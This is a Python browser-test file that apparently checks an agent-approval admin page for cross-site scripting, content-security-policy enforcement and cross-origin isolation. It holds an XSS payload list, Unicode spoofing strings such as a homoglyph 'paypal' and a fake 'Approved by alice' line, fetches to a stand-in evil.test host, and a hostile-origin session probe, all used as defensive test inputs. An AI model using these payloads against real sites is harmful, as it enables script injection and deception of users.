"""What an agent wrote is text on the page, and the page is nobody else's: hostile texts, the policy, other origins."""

import json
import re

import pytest

from tests.browser.kit import show_all
from trio_gate.shell.admin.static_files import CSP

XSS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "javascript:alert(1)",
    "{{7*7}}${alert(1)}",
    "</textarea></style><b>bold</b>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "photo\u202egpj.exe",
    "p\u0430ypal",
    "zero\u200bwidth\x1b[2J\nApproved by alice",
]
SAID_IN_RECORDS = ("agent", "agent_address", "account_name", "service", "operation", "rule", "reason", "why")


def hostile(text: str) -> dict:
    """A call with a text wherever an agent, or someone who names things, may write."""
    return {
        "params": {
            text: text,
            "List": [text, {text: text}],
            "Password": text,
            "Long": text + "l" * 20_000,
            "Blob": text.encode("utf-8", "replace"),
        },
        "account_name": text,
        "reason": text,
        "agent": text,
        "agent_address": text,
        "user_agent": text,
        "host": text,
        "address": text,
        "path": f"/{text}",
        "query": text,
        "rule": text,
        "region": text,
        "operation": text,
        "service": text,
        "headers": ((text, text), ("x-note", text)),
        "resource": text,
        "resources": (text, "arn:aws:s3:::reports/a"),
        "iam_action": text,
        "iam_actions": (text,),
        "assume_role": {"role_arn": text, "session_policy": f"policy {text}"},
        "body": text.encode("utf-8", "replace"),
    }


@pytest.mark.parametrize("text", XSS)
def test_what_an_agent_wrote_is_text(visit, stage, text):
    ask = stage.ask(**hostile(text))
    visitor = visit()
    page = visitor.enter()
    visitor.open(ask)
    visitor.unfold()
    assert page.inner_text("dt:has-text('Narrowed by') + dd").startswith("policy ")
    openers = page.locator(".call-body button.small:not(.lay-out):visible")
    assert openers.count() >= 6
    for number in range(openers.count()):
        openers.nth(number).click()
        show_all(page)
        check_text(page)
        page.keyboard.press("Escape")
    page.click("text=Deny…")
    page.fill("#reason", text.replace("\n", " "))
    page.click("text=Deny call")
    page.wait_for_selector("text=You denied this")
    check_text(page)
    assert not text.isprintable() or not text.isascii() or text in page.inner_text(".call")


@pytest.mark.parametrize("text", XSS)
def test_what_an_agent_wrote_is_text_in_the_record(visit, stage, text):
    page = visit().enter()
    page.keyboard.press("3")
    stage.observed()
    stage.publish(**dict.fromkeys(SAID_IN_RECORDS, text), params=json.dumps({text: [text, {"$masked": text}]}))
    page.click(".call-name")
    check_text(page)
    page.click("text=Record")
    page.wait_for_selector("text=1 row.")
    check_text(page)


def check_text(page) -> None:
    """Nothing became an element or an attribute that acts, and nothing is there that cannot be seen."""
    assert (
        page.evaluate(
            "document.querySelectorAll('main :is(img, script, iframe, svg, style, b b, object, embed), dialog :is(img, script, iframe, svg, style)').length"
        )
        == 0
    )
    acting = "[...document.querySelectorAll('*')].flatMap((one) => [...one.attributes]).filter((at) => /^on/i.test(at.name) || /^javascript:/i.test(at.value)).length"
    assert page.evaluate(acting) == 0
    text = page.evaluate("document.body.textContent")
    assert "p\u0430ypal" not in text
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]", text)


SINKS = [
    "document.body.innerHTML = '<b>x</b>'",
    "document.body.setAttribute('onclick', 'window.in = 1')",
    "document.createElement('script').text = 'window.in = 1'",
    "document.write('x')",
    "setTimeout('window.in = 1')",
    "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
]


def test_the_policy_stops_what_would_get_in(visit):
    visitor = visit()
    answer = visitor.page.goto(visitor.url)
    assert answer.headers["content-security-policy"] == CSP
    for word in ("unsafe", "http:", "https:", "*", "data:"):
        assert word not in CSP
    assert [one.split()[0] for one in CSP.split("; ") if "blob:" in one] == ["img-src"]
    for sink in SINKS:
        tried = f"(() => {{ try {{ {sink}; return 'in'; }} catch (fault) {{ return fault.name; }} }})()"
        assert visitor.page.evaluate(tried) in ("TypeError", "EvalError"), sink
    for way in ("fetch('https://evil.test/')", "fetch('data:,x')", "import('https://evil.test/x.js')"):
        assert visitor.page.evaluate(f"{way}.then(() => 'out', () => 'kept')") == "kept"
    assert visitor.page.evaluate("window.in ?? 'nothing'") == "nothing"
    assert visitor.faults
    visitor.faults.clear()


ELSEWHERE = """async (gate) => {
  const socket = await new Promise((done) => {
    const made = new WebSocket(gate.replace("https", "wss") + "v1/approvals", "trio-gate.approvals.v1");
    made.onopen = () => done("open");
    made.onclose = () => done("closed");
  });
  const tries = [["GET", "v1/session"], ["POST", "v1/session"], ["DELETE", "v1/session"]];
  const answers = await Promise.all(tries.map(([method, path]) => fetch(gate + path, { method, credentials: "include" }).then(() => "read", () => "refused")));
  return [socket, ...answers];
}"""


def test_a_page_from_elsewhere_gets_nothing(visit, stage):
    visitor = visit()
    page = visitor.enter()
    evil = visitor.context.new_page()
    evil.route(
        "https://evil.test/", lambda route: route.fulfill(body=f"<iframe src='{stage.url}'></iframe>", content_type="text/html")
    )
    evil.goto("https://evil.test/")
    assert evil.evaluate(ELSEWHERE, stage.url) == ["closed", "refused", "refused", "refused"]
    assert all("trio-gate" not in frame.content() for frame in evil.frames[1:])
    page.reload()
    page.wait_for_selector(".link.open")
